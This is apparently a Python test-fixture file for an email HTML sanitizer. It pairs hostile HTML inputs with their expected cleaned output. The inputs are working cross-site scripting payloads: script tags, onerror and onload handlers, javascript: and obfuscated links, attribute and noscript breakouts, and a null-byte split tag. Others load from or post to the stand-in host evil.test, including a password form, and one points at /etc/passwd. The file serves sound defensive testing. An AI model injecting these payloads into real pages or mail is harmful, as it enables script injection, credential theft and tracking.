"""HTML that means harm: what lies among the blobs, and what the page of a mail has of it. All invented here.

The gateway leaves none of this in; the desk is asked as though it had.
"""

from __future__ import annotations

from typing import Final, NamedTuple
from uuid import UUID

OWN: Final = UUID("0198a000-0000-7000-8000-00000000000a")
"""A picture of the mail."""
STRANGE: Final = UUID("0198a000-0000-7000-8000-00000000000b")
"""A picture of another mail."""


class Case(NamedTuple):
    why: str
    given: str
    then: str
    """With `{own}` where the `src` of the picture stands."""
    asked: str | None = None
    """With pictures from elsewhere; the same where that changes nothing."""


CASES: Final = (
    Case("a script is words", '<script>fetch("/api/me")</script>', 'fetch("/api/me")'),
    Case("a script of another place", '<script src="https://evil.test/x.js"></script>', ""),
    Case("capital letters are no tag of ours", "<SCRIPT>x()</SCRIPT>", "&lt;SCRIPT>x()&lt;/SCRIPT>"),
    Case("an element that loads", '<svg onload="x()"><g></g></svg>', ""),
    Case("markup within markup", "<math><mtext><p>words</p></mtext></math>", "<p>words</p>"),
    Case("a handler", '<p onclick="x()" title="t">words</p>', '<p title="t">words</p>'),
    Case("a handler of a picture", '<img src="x" onerror="x()" alt="lamp">', '<img alt="lamp">'),
    Case("no quotes around it", "<img src=x onerror=x()>", "&lt;img src=x onerror=x()>"),
    Case("single quotes", "<p title='\"><b onclick=x()>'>", "&lt;p title='\">&lt;b onclick=x()>'>"),
    Case("a tag that does not end", '<p title="', '&lt;p title="'),
    Case("a tag within an attribute", '<p title="<img src=1>">x</p>', '&lt;p title="&lt;img src=1>">x</p>'),
    Case("a slash for a blank", "<img/src=x/onerror=x()>", "&lt;img/src=x/onerror=x()>"),
    Case("a comment that hides", "<!--><b>x</b>-->", "&lt;!--><b>x</b>-->"),
    Case("CDATA", "<![CDATA[<b>x</b>]]>", "&lt;![CDATA[<b>x</b>]]>"),
    Case(
        "a style",
        "<style>@import url(https://evil.test/a.css)</style>",
        "@import url(https://evil.test/a.css)",
    ),
    Case("a style of one element", '<p style="background:url(https://evil.test/a)">x</p>', "<p>x</p>"),
    Case("a background", '<table background="https://evil.test/a"></table>', "<table></table>"),
    Case("a base for addresses", '<base href="https://evil.test/">', ""),
    Case("a refresh", '<meta http-equiv="refresh" content="0;url=https://evil.test/">', ""),
    Case("a policy of its own", '<meta http-equiv="Content-Security-Policy" content="img-src *">', ""),
    Case("a style sheet", '<link rel="stylesheet" href="https://evil.test/a.css">', ""),
    Case("a form", '<form action="https://evil.test/"><input name="password"></form>', ""),
    Case("a button", '<button formaction="https://evil.test/">Sign in</button>', "Sign in"),
    Case("a frame", '<iframe src="https://evil.test/" srcdoc="x"></iframe>', ""),
    Case("an object", '<object data="https://evil.test/a.swf"><embed src="a"></object>', ""),
    Case("a film", '<video src="https://evil.test/a"><source src="b"></video>', ""),
    Case("a link that runs", '<a href="javascript:x()">press</a>', "<a>press</a>"),
    Case("a hidden link that runs", '<a href="java&#10;script:x()">press</a>', "<a>press</a>"),
    Case("a link that is a page", '<a href="data:text/html,x">press</a>', "<a>press</a>"),
    Case("a link into the workplace", '<a href="/api/session">press</a>', "<a>press</a>"),
    Case(
        "a link into the frame above",
        '<a href="https://a.test/?b=1&amp;c=2" target="_top" ping="https://evil.test/">press</a>',
        '<a href="https://a.test/?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">press</a>',
    ),
    Case("a name of an element", '<img name="body" id="cookie" class="x">', "<img>"),
    Case("a template", "<template><p>x</p></template>", "<p>x</p>"),
    Case(
        "raw text",
        '<noscript><p title="</noscript><img src=x onerror=x()>"></noscript>',
        '&lt;p title="&lt;img src=x onerror=x()>">',
    ),
    Case("our page, ended", "</body></html><p>x</p>", "<p>x</p>"),
    Case("a picture that is a page", '<img src="data:image/svg+xml,x">', "<img>"),
    Case("a picture by our own address", f'<img src="/api/attachments/{STRANGE}">', "<img>"),
    Case("a picture of the mail", f'<img src="cid:{OWN}" alt="lamp">', '<img alt="lamp"{own}>'),
    Case("a picture of another mail", f'<img src="cid:{STRANGE}">', "<img>"),
    Case("a name that is none", '<img src="cid:------------------------------------">', "<img>"),
    Case(
        "a picture fetched at once",
        '<img src="https://evil.test/a" srcset="https://evil.test/b 2x">',
        "<img>",
    ),
    Case(
        "a picture from elsewhere",
        '<img data-remote-src="http://news.test/a.gif?x=1&amp;y=2" alt="lamp">',
        '<img alt="lamp">',
        '<img alt="lamp" src="https://news.test/a.gif?x=1&amp;y=2" referrerpolicy="no-referrer">',
    ),
    Case(
        "an address that breaks out",
        '<img data-remote-src="https://a.test/&quot; onerror=&quot;x()">',
        "<img>",
    ),
    Case("a picture that runs", '<img data-remote-src="javascript:x()">', "<img>"),
    Case("a picture of a file", '<img data-remote-src="file:///etc/passwd">', "<img>"),
    Case("a null", "<scr\0ipt>x()</scr\0ipt>", "&lt;scr\0ipt>x()&lt;/scr\0ipt>"),
)
